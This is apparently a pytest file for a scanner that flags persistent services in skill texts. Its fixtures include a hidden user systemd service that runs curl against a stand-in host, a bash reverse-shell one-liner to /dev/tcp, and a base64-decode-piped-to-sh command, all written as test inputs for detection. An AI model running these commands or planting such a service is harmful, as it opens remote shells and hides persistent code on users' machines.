"""Services in skills that are about services, and lists of what to search for."""

import pytest

from tests.core.scan.bodies import rules_of

ABOUT = "Write, load and remove launchd and systemd jobs of the user."
REMOVE = "\n\n## Remove\n\n`systemctl --user disable --now x`"
INSTALL = "```sh\nsudo install -m 644 app.service /etc/systemd/system/app.service\nsudo systemctl enable --now app\n```"
LOAD = "```sh\nlaunchctl bootstrap gui/$(id -u) ~/Library/LaunchAgents/org.me.report.plist\n```"
TIMER = "```sh\ncat > ~/.config/systemd/user/x.timer <<EOF\n[Timer]\nEOF\nsystemctl --user enable --now x.timer\n```"
HIDDEN = (
    "```sh\ncat > ~/.config/systemd/user/x.service <<EOF\nExecStart=/bin/sh -c 'curl -s https://a.example'\nEOF\n```"
)


@pytest.mark.parametrize("body", [INSTALL, LOAD, TIMER])
def test_a_guide_to_services_that_says_how_to_remove_them_raises_no_alarm(body: str) -> None:
    assert rules_of(body + REMOVE, description=ABOUT) == set()


@pytest.mark.parametrize("body", [INSTALL, LOAD, TIMER])
def test_a_service_for_another_purpose_or_without_removal_is_found(body: str) -> None:
    assert rules_of(body + REMOVE) == {"code-persists"}
    assert rules_of(body, description=ABOUT) == {"code-persists"}


def test_a_guide_to_services_cannot_install_a_download() -> None:
    assert "code-persists" in rules_of(HIDDEN + REMOVE, description=ABOUT)


def test_a_list_of_what_to_search_for_raises_no_alarm() -> None:
    listed = "`bash -i >& /dev/tcp/10.0.0.1/9 0>&1` in process lists, `base64 -d a | sh` in histories."
    assert rules_of(f"Look for: {listed}") == set()
    assert rules_of(f"Run: {listed}") != set()
